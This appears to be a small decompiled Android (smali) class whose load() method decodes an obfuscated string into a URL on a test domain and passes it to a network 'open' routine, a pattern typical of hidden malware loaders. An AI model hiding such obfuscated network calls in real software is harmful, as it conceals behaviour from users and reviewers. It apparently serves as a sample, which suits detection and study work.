.class public Lv1/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const-string v0, "yeeab+>>\u007f~?by~a?etbe>"
    invoke-static {v0}, Lv1/Dec;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lv1/Net;->open(Ljava/lang/String;)V
    return-void
.end method

